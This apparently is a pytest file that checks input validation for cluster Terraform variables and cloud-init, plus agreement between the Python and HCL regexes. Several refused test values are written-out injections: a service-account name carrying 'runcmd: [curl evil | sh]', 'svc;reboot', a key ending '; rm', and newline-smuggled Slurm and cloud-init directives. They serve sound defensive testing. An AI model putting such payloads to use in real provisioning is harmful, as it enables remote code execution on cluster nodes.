"""The admin inputs that reach the clusters' cloud-init: checked in Python, and the same rules in HCL.

The Python checks run where the flow builds the Terraform variables; the
``validation {}`` blocks of the modules' variables refuse the same values in a plain
``terraform plan``. The last tests read the regexes out of both modules'
variable files (their own and the shared ``cluster_variables.tf`` linked into each) so the
two layers cannot drift apart.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from heroes_core.cloud.cluster_inputs import (
    CLUSTER_NAME_PATTERN,
    ORGANISATION_PATTERN,
    PARTITION_PATTERN,
    PUBLIC_KEY_PATTERN,
    SERVICE_ACCOUNT_PATTERN,
    validate_cluster_variables,
)
from heroes_core.errors import SpecError

MODULES = Path(__file__).resolve().parents[4] / "terraform"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGjJ4cTq0r8w2m0Wc3rXbG2lq8QmJ4yQd1Zb3qXbQm9K"
GOOD = {"organisation": "acme", "service_account": "heroes", "partitions": ["cloud", "gpu_a100"],
        "service_account_public_key": KEY, "cluster_name": "", "region": "eu-west-1"}


def refused(**changes: object) -> SpecError:
    with pytest.raises(SpecError) as caught:
        validate_cluster_variables({**GOOD, **changes}, site="aws:acme")
    error = caught.value
    assert error.site == "aws:acme" and error.fix
    return error


def test_valid_inputs_pass_unchanged() -> None:
    assert validate_cluster_variables(GOOD, site="aws:acme") == GOOD
    minimal = {"organisation": "a1-b"}  # the module's defaults fill in the rest
    assert validate_cluster_variables(minimal, site="aws:a1-b") == minimal


@pytest.mark.parametrize("name", ["root\nruncmd: [curl evil | sh]", "Heroes", "9svc", "-svc", "a b",
                                  "svc;reboot", "x" * 33, "", "heroes\n"])
def test_service_account_must_be_a_posix_user_name(name: str) -> None:
    error = refused(service_account=name)
    assert "service_account" in str(error) and repr(name) in str(error)


@pytest.mark.parametrize("partitions", [[], ["cloud", "cloud"], ["gpu\nPartitionName=all Nodes=ALL"],
                                        ["_cloud"], ["a" * 65], ["cloud", ""], "cloud", ["cl oud"]])
def test_partitions_must_be_a_non_empty_list_of_distinct_slurm_names(partitions: object) -> None:
    assert "partitions" in str(refused(partitions=partitions))


@pytest.mark.parametrize("organisation", ["ACME", "Acme", "a", "-acme", "acme-", "ac_me", "ac.me",
                                          "a" * 41, "acme\nusers: []", ""])
def test_organisation_must_follow_the_lower_case_organisation_rule(organisation: str) -> None:
    error = refused(organisation=organisation)
    assert "organisation" in str(error) and repr(organisation) in str(error)


def test_upper_case_organisation_is_refused_with_the_lower_case_name_as_fix() -> None:
    error = refused(organisation="ACME")
    assert error.fix and "'acme'" in error.fix


def test_a_missing_organisation_is_refused() -> None:
    with pytest.raises(SpecError, match="organisation"):
        validate_cluster_variables({"service_account": "heroes"}, site="aws:?")


@pytest.mark.parametrize("cluster", ["Prod", "prod\nruncmd: [x]", "p"])
def test_cluster_name_must_follow_the_organisation_rule(cluster: str) -> None:
    assert "cluster_name" in str(refused(cluster_name=cluster))


@pytest.mark.parametrize("key", [KEY + "\nruncmd: [x]", "ssh-ed25519", "not a key", KEY + " a comment; rm"])
def test_service_account_public_key_must_be_one_openssh_public_key(key: str) -> None:
    assert "service_account_public_key" in str(refused(service_account_public_key=key))


def test_host_key_variables_are_refused_because_nodes_make_their_own() -> None:
    for name in ("host_private_key", "host_public_key"):
        error = refused(**{name: "-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----"})
        assert name in str(error) and error.fix and "first boot" in error.fix


def test_private_key_material_in_any_variable_is_refused() -> None:
    error = refused(extra="-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n")
    assert "extra" in str(error) and "PRIVATE KEY" in str(error) and "MIIE" not in str(error)


def _validation_regexes(module: Path) -> dict[str, str]:
    """``{variable: pattern}`` for every ``can(regex("...", var.X))`` in the module's validations."""
    found: dict[str, str] = {}
    text = "\n".join(path.read_text() for path in sorted(module.glob("*.tf")))
    for name, body in re.findall(r'variable "(\w+)" \{(.*?)\n\}', text, re.S):
        for pattern in re.findall(r'can\(regex\("((?:[^"\\]|\\.)*)", [\w.]+\)\)', body):
            assert name not in found or found[name] == pattern, name
            found[name] = pattern.encode().decode("unicode_escape")
    return found


@pytest.mark.parametrize("provider", ["aws", "oci"])
def test_variables_tf_validates_with_the_same_regexes_as_python(provider: str) -> None:
    regexes = _validation_regexes(MODULES / provider)
    assert regexes == {"organisation": ORGANISATION_PATTERN, "cluster_name": CLUSTER_NAME_PATTERN,
                       "service_account": SERVICE_ACCOUNT_PATTERN, "partitions": PARTITION_PATTERN,
                       "service_account_public_key": PUBLIC_KEY_PATTERN}


@pytest.mark.parametrize("provider", ["aws", "oci"])
def test_variables_tf_refuses_empty_or_duplicate_partitions(provider: str) -> None:
    text = "\n".join(path.read_text() for path in sorted((MODULES / provider).glob("*.tf")))
    (partitions,) = re.findall(r'variable "partitions" \{(.*?)\n\}', text, re.S)
    assert "length(var.partitions) > 0" in partitions
    assert "length(distinct(var.partitions)) == length(var.partitions)" in partitions
